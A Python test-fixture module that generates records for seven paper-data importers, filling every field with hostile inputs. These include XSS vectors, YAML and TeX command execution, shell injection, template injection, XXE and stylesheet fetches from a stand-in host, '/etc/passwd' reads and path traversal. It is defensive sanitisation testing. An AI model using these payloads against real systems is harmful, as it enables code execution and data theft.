r"""Hostile text of our own making, and records of every importer with it in every field.

A payload that would run in a browser calls ``__ran`` (`LISTENER`) with the field it came in by; one that
would load something asks `ELSEWHERE`; one that a shell, a YAML reader or TeX would run makes a file named
`TRACE`; one that a template would reckon has a sum in it (`SUM`).
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from typing import Any
from xml.sax.saxutils import quoteattr

from generator.errors import Problem
from generator.papers.paper import Record
from generator.sources import doi, web

ELSEWHERE = "https://hostile.invalid"
TRACE = "was-run-by-hostile-text"
LISTENER = "globalThis.__all = []; globalThis.__ran = (where) => { globalThis.__all.push(String(where)); };"
SUM = "1234567*1009", "1245678103"  # what a template would make of it
_CALL = "(globalThis.__ran||parent.__ran)('@')"
_TOUCH = f"touch {TRACE}"

_MARKUP = (
    f"<script>{_CALL}</script>", f"</script><script>{_CALL}</script>", f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>", f'"><img src=x onerror="{_CALL}">',
    f"' autofocus onfocus='{_CALL}' x='", f'" onmouseover="{_CALL}" x="',
    f"<details open ontoggle={_CALL}>x</details>", f"<a href=javascript:{_CALL}>x</a>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>", f"<iframe src=javascript:{_CALL}></iframe>",
    f"<math><mtext><style><img src=x onerror={_CALL}></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>", f"<!--><script>{_CALL}</script-->",
    f"</title></head><body onload={_CALL}>", f"</textarea><script>{_CALL}</script>",
    f"<template><script>{_CALL}</script></template>", f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={_CALL}&#62;", f"<form action={ELSEWHERE}><input name=q autofocus>",
    f"<base href={ELSEWHERE}/>", f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<link rel=stylesheet href={ELSEWHERE}/x.css>", f"<style>@import '{ELSEWHERE}/x.css';</style>",
    f"<img src={ELSEWHERE}/x.png>", f"<object data={ELSEWHERE}/x></object>", "</article></main></html>",
    f"<scr\x00ipt>{_CALL}</script>", f"<img src=x onerror\n=\n{_CALL}>", f"\u003cscript\u003e{_CALL}",
)  # fmt: skip
_MARKDOWN = (
    f"[x](javascript:{_CALL})", f"![x]({ELSEWHERE}/x.png)", f"![x](x.png){{onerror={_CALL}}}",
    f"# x {{: onmouseover={_CALL} .x }}", f"[x]: javascript:{_CALL}\n\n[x]", f"<javascript:{_CALL}>",
    f"\n\n<script>{_CALL}</script>\n\n", f"\n\n    <script>{_CALL}</script>",
    f"```\n</code><script>{_CALL}</script>",
    "`</code><b onclick=x>`", '--8<-- "/etc/passwd"', "\n## Notes\n\n[TOC]",
    f"| a |\n| - |\n| <img src=x onerror={_CALL}> |",
    f"[x](data:text/html,<script>{_CALL}</script>)", "archive-mark-content.", "[^1]\n\n[^1]: x", "*[HTML]: x",
)  # fmt: skip
_TEX = (
    rf"\href{{javascript:{_CALL}}}{{x}}", rf"$\href{{javascript:{_CALL}}}{{x}}$",
    rf"\url{{javascript:{_CALL}}}",
    rf"$\text{{<img src=x onerror={_CALL}>}}$", rf"$<script>{_CALL}</script>$", rf"\write18{{{_TOUCH}}}",
    r"\input{/etc/passwd} \include{/etc/passwd}", rf"$\style{{background:url({ELSEWHERE}/x)}}{{x}}$",
    rf"$\includegraphics{{{ELSEWHERE}/x.png}}$", r"\def\x{\x\x}\x $\def\x{\x\x}\x$",
    rf'$\unicode{{x22}}"onclick={_CALL}$', rf"$$</math><script>{_CALL}</script>$$", r"}\end{document}",
)  # fmt: skip
_DATA = (
    f'!!python/object/apply:os.system ["{_TOUCH}"]', "x\n---\nhidden: true\nfeatured: true\n---\n", "*x",
    "&x",
    "x\nfetched: title=abcdef", "{a: [b", "'\"'", f'"}}</script><script>{_CALL}</script>', '","url":"x',
    f"]]><script>{_CALL}</script>", "<![CDATA[x", f"<?xml-stylesheet href='{ELSEWHERE}/x.xsl'?>",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{ELSEWHERE}/x'>]>&e;", "&#0;&#x1F;&#xD800;", "\u2028\u2029",
    "}\n@misc{other, title={x}}", "x\nER  - \nTY  - JOUR", '=HYPERLINK("https://hostile.invalid")',
    "x\n{\"id\":1}",
    f"{{{{ {SUM[0]} }}}} {{% raw %}} {{# x #}}", f"${{{SUM[0]}}} #{{{SUM[0]}}} <%= {SUM[0]} %>", "__proto__",
    "constructor",
)  # fmt: skip
_SHELL = (
    f"$({_TOUCH})", f"`{_TOUCH}`", f"; {_TOUCH} #", f"| {_TOUCH}", f"x\n{_TOUCH}\n", "-rf --help", "$IFS$9",
    "${{ github.token }}", "x\nEOF\nBASH_ENV=x",
)  # fmt: skip
_LOG = (
    "x\n::set-output name=x::y", "::add-mask::e", "x\r\n::stop-commands::x", "%0A::error::x", "##[error]x",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07", "\x9b31m", "x\r\nSet-Cookie: a=b\r\n\r\n<html>", "\x08\x08\x08",
    "a\rb",
)  # fmt: skip
_LETTERS = (
    "\u202egnp.exe", "\u2066x\u2069\u2067", "\u200b\u200f\u200d", "\ufeffx", "e" + "\u0301" * 300, "\x00x",
    "\x7f\x80",
    "\ufffe\uffff", "\U000e0041\U000e0042", "\ud800x", "\U000f0000\U000f0001", "x" * 3000, "\u3164",
)  # fmt: skip
_PLACES = (
    "../../../../etc/x", "..\\..\\x", "/etc/passwd", "CON", "%2e%2e%2fx", ".git/hooks/x", "a/../../../b",
    "index", "~/x",
    f"javascript:{_CALL}", f"JaVa\tScRiPt:{_CALL}", f"data:text/html,<script>{_CALL}</script>", "vbscript:x",
    "//hostile.invalid/x",
    f'{ELSEWHERE}/"onmouseover="{_CALL}', f"{ELSEWHERE}/'><script>{_CALL}</script>",
    "https://a@hostile.invalid:99999/",
    "https://[::1", "https://hostile.invalid\\@x", "file:///etc/passwd",
    f"{ELSEWHERE}/)[x](javascript:{_CALL})", "https://\u202e/",
    f"\x01javascript:{_CALL}", "http://", "https://hostile.invalid/\r\nX: y",
)  # fmt: skip
PAYLOADS = (*_MARKUP, *_MARKDOWN, *_TEX, *_DATA, *_SHELL, *_LOG, *_LETTERS, *_PLACES)

Fill = Callable[[str], str]  # from the name of a field to the payload that stands in it
_FIRST = 2601_00001


def payload(number: int, importer: str) -> Fill:
    """What puts a payload into the fields of an importer; it says which field it was."""
    return lambda field: PAYLOADS[number].replace("@", f"{importer}.{field}.{number}")


def _identifier(number: int, shift: int) -> str:
    digits = str(_FIRST + shift + number)
    return f"{digits[:4]}.{digits[4:]}"


def _line(number: int, fill: Fill) -> Iterator[dict[str, Any]]:
    texts = (
        "title",
        "abstract",
        "organization",
        "submitter",
        "source",
        "comment",
        "journal_ref",
        "summary",
        "thumbnail",
        "updated",
        "added",
        "changed",
    )
    lists = ("authors", "tags", "keywords", "categories")
    links = ("paper", "pdf", "code", "project", "huggingface", "doi")
    known = {"date": "2026-01-02", "counts": {"votes": number}, "unknown": fill("unknown")}
    yield {
        "id": _identifier(number, 0),
        **known,
        **{name: fill(name) for name in texts},
        **{name: [fill(name), "shared"] for name in lists},
        "links": {name: fill(f"links.{name}") for name in links},
        "url": fill("url"),
    }
    yield {"id": f"{fill('id')}{number}", "title": f"By id {number}", **known}
    yield {"id": _identifier(number, 1000), "title": "By arXiv id", "arxiv": fill("arxiv"), **known}


def _hub(number: int, fill: Fill) -> Iterator[dict[str, Any]]:
    def item(paper: dict[str, Any], **outer: Any) -> dict[str, Any]:
        day = {"submittedOnDailyAt": "2026-01-03T01:00:00.000Z", "upvotes": number, "summary": "x"}
        return {"paper": day | paper, **outer}

    texts = (
        "title",
        "summary",
        "ai_summary",
        "githubRepo",
        "projectPage",
        "publishedAt",
        "withdrawnAt",
        "discussionId",
    )
    people = {
        name: {"fullname": fill(name), "name": fill(name)} for name in ("submittedOnDailyBy", "organization")
    }
    names = {
        "authors": [{"name": fill("authors"), "hidden": False}],
        "ai_keywords": [fill("ai_keywords"), "shared"],
    }
    own = {name: fill(name) for name in texts}
    yield item(
        {"id": _identifier(number, 2000), **own, **people, **names},
        title=fill("outer title"),
        thumbnail=fill("thumbnail"),
        mediaUrls=[fill("mediaUrls"), fill("mediaUrls") + ".png"],
    )
    yield item({"id": f"{fill('id')} {number}", "title": f"By the hub's id {number}"})


def _entry(number: int, fill: Fill) -> Iterator[str]:
    def text(name: str) -> str:
        # What XML cannot hold is put in by itself, below.
        return "".join(letter for letter in quoteattr(fill(name))[1:-1] if _is_xml(letter))

    def entry(identifier: str, **texts: str) -> str:
        dates = "<published>2026-01-01T10:00:00Z</published>"
        inner = "".join(
            f"<{name.replace('_', ':', 1)}>{value}</{name.replace('_', ':', 1)}>"
            for name, value in texts.items()
        )
        return f"<entry><id>http://arxiv.org/abs/{identifier}</id>{dates}{inner}</entry>"

    own = {
        name: text(name)
        for name in ("title", "summary", "updated", "arxiv_comment", "arxiv_journal_ref", "arxiv_doi")
    }
    author = f"<name>{text('author')}</name>"
    category = f'<category term="{text("category")}"/>'
    yield entry(f"{_identifier(number, 3000)}v1", **own, author=author).replace(
        "</entry>", f"{category}</entry>"
    )


def _is_xml(letter: str) -> bool:
    return (
        letter in "\t\n\r" or " " <= letter <= "\ud7ff" or "\ue000" <= letter <= "\ufffd" or letter > "\uffff"
    )


def _bibtex(number: int, fill: Fill) -> Iterator[str]:
    names = (
        "title",
        "author",
        "abstract",
        "journal",
        "url",
        "doi",
        "keywords",
        "primaryclass",
        "month",
        "unknown",
    )
    fields = "".join(f"  {name} = {{{_balanced(fill(name))}}},\n" for name in names)
    yield f"@article{{hostile{number},\n{fields}  year = {{2026}},\n}}\n"
    eprint = _balanced(fill("eprint"))
    yield f"@misc{{named{number},\n  title = {{Named {number}}},\n  eprint = {{{eprint}}},\n  year = 2026\n}}"


def _balanced(text: str) -> str:
    """The text with as many braces closed as opened, so that an entry ends where it should."""
    depth, made = 0, ""
    for letter in text:
        depth += (letter == "{") - (letter == "}")
        made, depth = (made, 0) if depth < 0 else (made + letter, depth)
    return (made + "}" * depth).replace("\n@", "\n @").replace("\0", "")


def _card(number: int, fill: Fill) -> Iterator[str]:
    title, abstract = (" ".join(fill(name).replace("\0", "").split()) for name in ("title", "abstract"))
    yield f"Card {number} {title}\n\n{abstract or 'x'}\n\n· 3 authors\n· Jan 4, 2026\n\n"


def _page(number: int, fill: Fill) -> Iterator[str]:
    """A page with ``citation_*`` tags, as it is served."""
    names = (
        "title", "author", "authors", "publication_date", "pdf_url", "doi", "arxiv_id", "journal_title",
        "abstract", "keywords",
    )  # fmt: skip

    def tags(**contents: str) -> str:
        return "".join(
            f"<meta name=citation_{name} content={quoteattr(text)}>" for name, text in contents.items()
        )

    yield f"<!doctype html><head>{tags(**{name: fill(name) for name in names}, date='2026')}</head>"
    named = {"title": f"By its page {number}", "year": "2026"}
    yield f"<!doctype html><head>{tags(**named, author=fill('author'))}</head>"


def _agency(number: int, fill: Fill) -> Iterator[dict[str, Any]]:
    """What an agency knows of a DOI."""
    yield {
        **{name: fill(name) for name in ("title", "abstract", "container-title", "URL", "DOI", "publisher")},
        "author": [{"given": fill("given"), "family": fill("family")}, {"literal": fill("literal")}],
        "issued": {"date-parts": [[2026, number % 12 + 1]]},
    }
    yield {"title": [fill("title")], "author": fill("author"), "issued": {"date-parts": [[fill("year")]]}}


def _all(make: Callable[[int, Fill], Iterator[Any]], importer: str) -> list[Any]:
    return [made for number in range(len(PAYLOADS)) for made in make(number, payload(number, importer))]


def files() -> Mapping[str, bytes]:
    """A file for each importer, by its name: every payload in every field of its records."""
    namespaces = 'xmlns="http://www.w3.org/2005/Atom" xmlns:arxiv="http://arxiv.org/schemas/atom"'
    texts = {
        "hostile.jsonl": "".join(json.dumps(row) + "\n" for row in _all(_line, "jsonl")),
        "hostile.json": json.dumps(_all(_hub, "hub")),
        "hostile.xml": f"<feed {namespaces}>{''.join(_all(_entry, 'atom'))}</feed>",
        "hostile.bib": "\n".join(_all(_bibtex, "bibtex")),
        "hostile.txt": "".join(_all(_card, "capture")),
    }
    return {name: text.encode("utf-8", "surrogatepass") for name, text in texts.items()}


def answers() -> Iterator[Record | Problem]:
    """What comes of the answers to questions for single papers: every payload in every field of them."""
    for number, text in enumerate(_all(_page, "web")):
        body = text.encode("utf-8", "surrogatepass")
        yield from web.parse(web.tags(body), f"https://moss.example/{number}", "web")
    for number, item in enumerate(_all(_agency, "doi")):
        yield from doi.parse(item, f"10.1234/moss.{number}", "doi")


def tried() -> dict[str, int]:
    """How many fields each importer's records have payloads in."""
    fields: dict[str, int] = {}
    makers = {
        "jsonl": _line,
        "hub": _hub,
        "atom": _entry,
        "bibtex": _bibtex,
        "capture": _card,
        "web": _page,
        "doi": _agency,
    }
    for importer, make in makers.items():
        names: set[str] = set()
        list(make(0, lambda name, names=names: names.add(name) or "x"))  # type: ignore[misc]
        fields[importer] = len(names)
    return fields
